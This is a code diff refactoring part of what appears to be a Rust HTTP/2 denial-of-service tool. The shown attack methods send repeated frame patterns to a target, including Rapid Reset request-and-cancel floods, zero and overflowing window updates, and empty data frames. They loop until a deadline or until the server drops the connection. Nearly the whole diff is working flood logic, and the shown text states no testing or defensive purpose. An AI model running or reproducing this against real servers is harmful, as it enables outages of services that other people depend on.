@@ -164,23 +164,17 @@ impl Attack {
         let mut client = Client::http2(target, &frame::frame(SETTINGS, 0, 0, &[]))?;
         client.send(&self.opening(host));
         let mut requests = u64::from(!self.opening(host).is_empty());
-        let asks = !self.piece(0, host).1.is_empty() && self.is_of_requests();
+        let asks = self.is_of_requests();
         for number in 0..u32::MAX / 4 {
             if client.seen.ended || now() > until {
                 break;
             }
-            let (_, piece) = self.piece(number, host);
             let repeat = if asks { 1 } else { AT_ONCE };
-            client.send(&piece.repeat(repeat as usize));
+            client.send(&self.piece(number, host).repeat(repeat as usize));
             requests += u64::from(asks);
             client.read_frames();
         }
-        // What was sent last may still be on its way.
-        while !client.seen.ended && now() < until {
-            client.look();
-            client.read_frames();
-        }
-        Ok(Outcome { requests, ended: client.seen.ended })
+        Ok(Outcome { requests, ended: sees_end(&mut client, until) })
     }
 
     fn is_of_requests(self) -> bool {
@@ -207,11 +201,11 @@ impl Attack {
         }
     }
 
-    /// What is sent again and again: the stream, and the bytes.
-    fn piece(self, number: u32, host: &str) -> (u32, Vec<u8>) {
+    /// What is sent again and again.
+    fn piece(self, number: u32, host: &str) -> Vec<u8> {
         let stream = frame::stream(number);
         let get = || frame::get(stream, host);
-        let bytes = match self {
+        match self {
             Self::RapidReset => [get(), frame::reset(stream)].concat(),
             Self::WindowIncrementZero => [get(), frame::window_update(stream, 0)].concat(),
             Self::WindowOverflow => [get(), frame::window_update(stream, 0x7fff_ffff)].concat(),
@@ -230,8 +224,7 @@ impl Attack {
             Self::WindowUpdates => frame::window_update(0, 1),
             Self::EmptyData => frame::frame(DATA, 0, 1, &[]),
             _ => Vec::new(),
-        };
-        (stream, bytes)
+        }
     }
 
     /// Requests that cost little to send and would cost much to hold.
@@ -253,12 +246,17 @@ impl Attack {
             client.read_frames();
             requests += 1;
         }
-        while !client.seen.ended && now() < until {
-            client.look();
-            client.read_frames();
-        }
-        Ok(Outcome { requests, ended: client.seen.ended })
+        Ok(Outcome { requests, ended: sees_end(&mut client, until) })
     }
+}
+
+/// What the server said to what was sent last may still be on its way.
+fn sees_end(client: &mut Client, until: Instant) -> bool {
+    while !client.seen.ended && now() < until {
+        client.look();
+        client.read_frames();
+    }
+    client.seen.ended
 }
 
 /// A header block in as many frames as it takes.
